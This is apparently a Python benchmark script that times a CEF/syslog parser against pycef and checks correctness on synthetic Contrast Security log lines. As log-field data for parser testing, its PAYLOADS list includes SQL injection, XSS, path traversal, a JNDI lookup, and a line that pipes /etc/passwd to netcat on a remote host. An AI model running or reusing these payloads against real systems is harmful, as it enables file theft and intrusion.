"""Parser throughput and correctness: cefpipe against pycef, on the same lines.

A fixed-seed corpus of Contrast-shaped syslog lines is generated with the answer
each line should parse to: Java, Python (three generations), .NET and Node
agents; RFC 3164, RFC 5424 and the agents' own prefixes; payloads that need
``\\=`` ``\\\\`` ``\\|`` escapes; IPv6 sources, ``-`` placeholders and some long
values. Each implementation parses every line in interleaved rounds (the best
round counts), and every result is checked against the answer.

Prints one summary line. Usage::

    .venv/bin/python bench/bench_parser.py [--lines 20000] [--rounds 5]
"""

from __future__ import annotations

import argparse
import json
import random
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pycef

from enrich.cef import CefSyntaxError, parse_cef
from enrich.pipeline import Envelope, enrich
from enrich.syslog import parse_syslog

SEED = 20250314
CASES_DIR = Path(__file__).resolve().parent.parent / "tests" / "data" / "cases"

PYCEF_HEADER_KEYS = (
    "DeviceVendor",
    "DeviceProduct",
    "DeviceVersion",
    "DeviceEventClassID",
    "Name",
    "Severity",
)
PYCEF_EXTRA_KEYS = frozenset({"CEFVersion", "DeviceName", "DeviceSeverity"})
CASE_HEADER_FIELDS = (
    "device_vendor",
    "device_product",
    "device_version",
    "signature_id",
    "name",
    "severity",
)
HEADER_COLUMNS = (
    "DeviceVendor",
    "DeviceProduct",
    "DeviceVersion",
    "DeviceEventClassID",
    "Activity",
    "LogSeverity",
)

RULES = (
    "sql-injection", "cmd-injection", "path-traversal", "reflected-xss", "xxe",
    "method-tampering", "untrusted-deserialization", "nosql-injection",
    "unsafe-file-upload", "bot-blocker", "ip-deny-list", "jndi-injection",
    "expression-language-injection",
)  # fmt: skip
OUTCOMES = (
    "EXPLOITED", "BLOCKED", "INEFFECTIVE", "SUSPICIOUS", "PROBED", "success",
    "BLOCKED_AT_PERIMETER",
)  # fmt: skip
PAYLOADS = (
    "x' OR '1'='1", "../../../etc/passwd", "<script>alert(1)</script>",
    "cat /etc/passwd | nc 192.0.2.9 4444", "..\\..\\Windows\\win.ini",
    '{"$ne":null}', "${jndi:ldap://198.51.100.7/a}", "q=1&debug=true",
    "<img src=x onerror=alert(1)>", "1 UNION SELECT password FROM users",
    "C:\\Temp\\a|b", "admin'--", "null",
)  # fmt: skip
PATHS = (
    "/owners", "/api/login", "/search", "/download/..\\..\\win.ini;jsessionid=A1",
    "/blog/post/42/comments", "/run", "/a b/c=d", "/api/v2/items|export", "/",
)  # fmt: skip
APPS = ("PetStore", "ledger-api", "Community Blog (EU)", "OrderDesk", "Claims Portal")
HOSTS = (
    "app-host-07",
    "py-web-02",
    "192.0.2.15",
    "win-iis-04",
    "node-api-01.example.net",
)
MONTHS = (
    "Jan",
    "Feb",
    "Mar",
    "Apr",
    "May",
    "Jun",
    "Jul",
    "Aug",
    "Sep",
    "Oct",
    "Nov",
    "Dec",
)


@dataclass(frozen=True)
class Sample:
    """A generated line and what it must parse to."""

    line: str
    header: tuple[str, ...]
    extensions: dict[str, str]


def escape_header(text: str, *, java: bool) -> str:
    escaped = text.replace("\\", "\\\\").replace("|", "\\|")
    return escaped.replace("=", "\\=") if java else escaped


def escape_value(text: str) -> str:
    return (
        text.replace("\\", "\\\\")
        .replace("=", "\\=")
        .replace("\n", "\\n")
        .replace("\r", "\\r")
    )


def make_corpus(count: int, seed: int = SEED) -> list[Sample]:
    rng = random.Random(seed)
    agents: list[Callable[[random.Random], Sample]] = [
        _java_3164,
        _java_yeared,
        _python_current,
        _python_8x,
        _python_legacy,
        _dotnet,
        _node_5424,
    ]
    weights = (30, 10, 25, 10, 5, 10, 10)
    return [rng.choices(agents, weights)[0](rng) for _ in range(count)]


def _payload(rng: random.Random) -> str:
    payload = rng.choice(PAYLOADS)
    if rng.random() < 0.03:  # a long value, as an injected blob would be
        payload += ",".join(f"c{n:03d}" for n in range(rng.randint(200, 900)))
    return payload


def _attack(rng: random.Random, ipv6: bool) -> tuple[str, str, dict[str, str]]:
    rule, payload = rng.choice(RULES), _payload(rng)
    name = f"The parameter q had a value that successfully exploited {rule} - {payload}"
    src = (
        rng.choice(("0:0:0:0:0:0:0:1", "2001:db8::17", "::ffff:203.0.113.50"))
        if ipv6
        else f"198.51.100.{rng.randint(1, 254)}"
    )
    request = rng.choice(PATHS)
    if rng.random() < 0.02:
        request += "\nSet-Cookie: sid=evil"
    pairs = {
        "pri": rule,
        "src": src,
        "spt": str(rng.choice((8080, 8443, 8000, 443, 3000))),
        "request": request,
        "requestMethod": rng.choice(("GET", "POST", "PUT")),
        "app": rng.choice(APPS),
    }
    return name, rng.choice(OUTCOMES), pairs


def _extension(pairs: dict[str, str]) -> str:
    return " ".join(f"{key}={escape_value(value)}" for key, value in pairs.items())


def _sample(
    prefix: str, product: str, version: str, name: str, severity: str,
    pairs: dict[str, str], *, java: bool = False, extension: str | None = None,
) -> Sample:  # fmt: skip
    header = ("Contrast Security", product, version, "SECURITY", name, severity)
    line = "|".join(
        [
            "CEF:0",
            *(escape_header(field, java=java) for field in header),
            _extension(pairs) if extension is None else extension,
        ]
    )
    return Sample(prefix + line, header, pairs)


def _clock(rng: random.Random) -> str:
    return f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def _java_3164(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.2)
    day = rng.randint(1, 28)
    prefix = (
        f"<{rng.choice((153, 156, 157))}>{rng.choice(MONTHS)} {day:2d} {_clock(rng)} "
    )
    pairs["outcome"] = outcome
    host = rng.choice(HOSTS)
    product, version = "Contrast Agent Java", "6.16.0"
    return _sample(f"{prefix}{host} ", product, version, name, "WARN", pairs, java=True)


def _java_yeared(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.3)
    prefix = (
        f"Jul 18 2024 {_clock(rng)}.{rng.randint(0, 999):03d}-0400 {rng.choice(HOSTS)} "
    )
    pairs["outcome"] = outcome
    return _sample(
        prefix, "Contrast Agent Java", "6.5.4", name, "WARN", pairs, java=True
    )


def _python_current(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.1)
    if rng.random() < 0.15:  # no request context
        for key in ("src", "spt", "request", "requestMethod"):
            pairs[key] = "-"
    host = rng.choice(HOSTS)
    pairs["contrastAgentServer"] = rng.choice((host, "-"))
    pairs["dvchost"] = f"{host}.corp.example"
    pairs["outcome"] = outcome
    prefix = f"<153>Mar {rng.randint(1, 28):02d} {_clock(rng)} {host} "
    return _sample(prefix, "Contrast Agent Python", "10.23.1", name, "WARN", pairs)


def _python_8x(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=False)
    pairs["outcome"] = outcome
    prefix = f"<157>Mar 04 2025 {_clock(rng)}.318-0500 {rng.choice(HOSTS)} "
    return _sample(prefix, "Contrast Agent Python", "8.6.0", name, "WARN", pairs)


def _python_legacy(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=False)
    pairs["outcome"] = outcome
    quoted = " ".join(f"'{key}={escape_value(value)}'" for key, value in pairs.items())
    prefix = f"2025-03-04 {_clock(rng)},318 {rng.choice(HOSTS)} "
    return _sample(
        prefix, "Contrast Agent Python", "4.5.0", name, "20", pairs, extension=quoted
    )


def _dotnet(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.2)
    pairs["outcome"] = outcome
    prefix = f"<157>Mar 14 {_clock(rng)} win-iis-04 "
    return _sample(prefix, "Contrast Agent .NET Core", "4.3.2", name, "WARN", pairs)


def _node_5424(rng: random.Random) -> Sample:
    name, outcome, pairs = _attack(rng, ipv6=rng.random() < 0.5)
    pairs["outcome"] = outcome
    structured = rng.choice(("-", '[origin ip="192.0.2.1" note="CEF:0|x \\"y\\""]'))
    bom = "\ufeff" if rng.random() < 0.3 else ""
    prefix = (
        f"<129>1 2025-03-14T{_clock(rng)}.250Z node-api-01.example.net "
        f"contrast-agent 4411 - {structured} {bom}"
    )
    return _sample(prefix, "Contrast Agent Node", "5.12.0", name, "WARN", pairs)


def cefpipe_parse(line: str) -> tuple[tuple[str, ...], dict[str, str]] | None:
    """The syslog and CEF layers alone: header fields and extension pairs."""
    envelope = parse_syslog(line)
    if envelope is None:
        return None
    try:
        event = parse_cef(line, envelope.cef_offset)
    except CefSyntaxError:
        return None
    return event[1:7], event.extensions


def cefpipe_right(sample: Sample) -> bool:
    return cefpipe_parse(sample.line) == (sample.header, sample.extensions)


def pycef_parse(line: str) -> dict[str, Any] | None:
    try:
        result: dict[str, Any] | None = pycef.parse(line)
    except Exception:  # pycef raises on some inputs; that is a wrong answer
        return None
    return result


def pycef_agrees(
    result: dict[str, Any] | None, header: Iterable[str], extensions: dict[str, str]
) -> bool:
    if result is None:
        return False
    if tuple(result.get(key) for key in PYCEF_HEADER_KEYS) != tuple(header):
        return False
    pairs = {k: v for k, v in result.items() if k not in PYCEF_EXTRA_KEYS}
    for key in PYCEF_HEADER_KEYS:
        pairs.pop(key, None)
    return pairs == extensions


def pycef_on_shared_cases() -> tuple[int, int]:
    """pycef's score on the shared cases, judged by the cases' own answers."""
    right = total = 0
    for path in sorted(CASES_DIR.glob("*.jsonl")):
        for line in path.read_text().splitlines():
            case = json.loads(line)
            total += 1
            right += _pycef_right_on_case(case)
    return right, total


def _pycef_right_on_case(case: dict[str, Any]) -> bool:
    raw = case["raw"]
    if case.get("transport") == "tcp-octet-counted":
        raw = raw.split(" ", 1)[1]
    result = pycef_parse(raw.rstrip("\r\n"))
    expect = case["expect"]
    if "error" in expect or expect.get("_disposition") == "reject":
        return result is None
    if "header" in expect:
        header = expect["header"]
        fields = (header[field] for field in CASE_HEADER_FIELDS)
        return pycef_agrees(result, fields, expect["extensions"])
    # Contrast samples state columns; their pairs are what cefpipe (which
    # passes every case) decodes.
    ours = cefpipe_parse(raw.rstrip("\r\n"))
    extensions = ours[1] if ours is not None else {}
    return pycef_agrees(result, (expect[c] for c in HEADER_COLUMNS), extensions)


def _timed(parse: Callable[[Any], object], lines: list[Any]) -> float:
    started = time.perf_counter()
    for line in lines:
        parse(line)
    return time.perf_counter() - started


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("--lines", type=int, default=20_000)
    options.add_argument("--rounds", type=int, default=5)
    args = options.parse_args()

    corpus = make_corpus(args.lines)
    lines = [sample.line for sample in corpus]
    raw_lines = [line.encode() for line in lines]
    envelope = Envelope(received_at_us=time.time_ns() // 1000)

    def run_enrich(raw: bytes) -> object:
        return enrich(raw, envelope)

    best = {"cefpipe": float("inf"), "enrich": float("inf"), "pycef": float("inf")}
    for _ in range(args.rounds):
        best["cefpipe"] = min(best["cefpipe"], _timed(cefpipe_parse, lines))
        best["pycef"] = min(best["pycef"], _timed(pycef_parse, lines))
        best["enrich"] = min(best["enrich"], _timed(run_enrich, raw_lines))

    rate = {name: len(lines) / seconds for name, seconds in best.items()}
    ours_right = sum(cefpipe_right(sample) for sample in corpus)
    pycef_right = sum(
        pycef_agrees(pycef_parse(s.line), s.header, s.extensions) for s in corpus
    )
    case_right, case_total = pycef_on_shared_cases()
    ratio = rate["cefpipe"] / rate["pycef"]
    print(
        f"lines={len(lines)} seed={SEED} | "
        f"cefpipe parse {rate['cefpipe']:,.0f}/s, enrich {rate['enrich']:,.0f}/s, "
        f"pycef {rate['pycef']:,.0f}/s | parse/pycef {ratio:.2f}x | right by our "
        f"rules: cefpipe {ours_right}/{len(lines)}, pycef {pycef_right}/{len(lines)}"
        f" | pycef on shared cases {case_right}/{case_total}"
    )


if __name__ == "__main__":
    main()
